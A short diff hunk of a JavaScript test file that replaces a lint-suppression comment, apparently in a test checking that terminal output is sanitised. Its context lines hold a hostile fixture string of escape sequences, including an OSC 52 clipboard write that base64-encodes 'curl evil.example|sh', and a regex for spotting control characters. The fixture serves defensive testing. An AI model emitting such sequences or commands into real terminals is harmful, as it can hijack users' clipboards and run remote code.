@@ -21,7 +21,7 @@ import { loadSample, withDetail } from '../helpers/samples.js';
 // screen, U+009B is a one-byte CSI, OSC 52 writes the clipboard (some terminals), CR overwrites the line.
 const HOSTILE = 'evil\u001b]0;pwned\u0007\u001b[2J\u009b31m\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007\rOK\u202eend';
 // ESC, BEL, CR and every other C0 but the line feed, DEL, C1; and the bidi override.
-// eslint-disable-next-line no-control-regex
+// biome-ignore lint/suspicious/noControlCharactersInRegex: the controls this test looks for, listed apart from safe-text.ts's \p{Cc}
 const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/;
 const ROOT = join(import.meta.dirname, '..', '..');
 const CONFIG = join(ROOT, 'config', 'replay.sample.json');
